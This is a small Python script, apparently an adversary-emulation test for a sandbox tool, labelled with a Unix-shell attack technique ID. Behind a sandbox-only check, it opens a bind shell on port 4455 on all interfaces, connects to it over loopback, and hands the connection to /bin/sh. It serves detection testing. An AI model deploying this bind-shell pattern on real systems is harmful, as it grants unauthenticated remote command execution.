# technique: T1059.004
# needs: python3
# net: loopback
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import os, socket, subprocess
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 4455)); s.listen(1)
if os.fork() == 0:
    c = socket.create_connection(("127.0.0.1", 4455)); c.sendall(b"id\nexit\n"); c.recv(100); os._exit(0)
c, _ = s.accept()
for fd in range(3): os.dup2(c.fileno(), fd)
subprocess.call(["/bin/sh"])
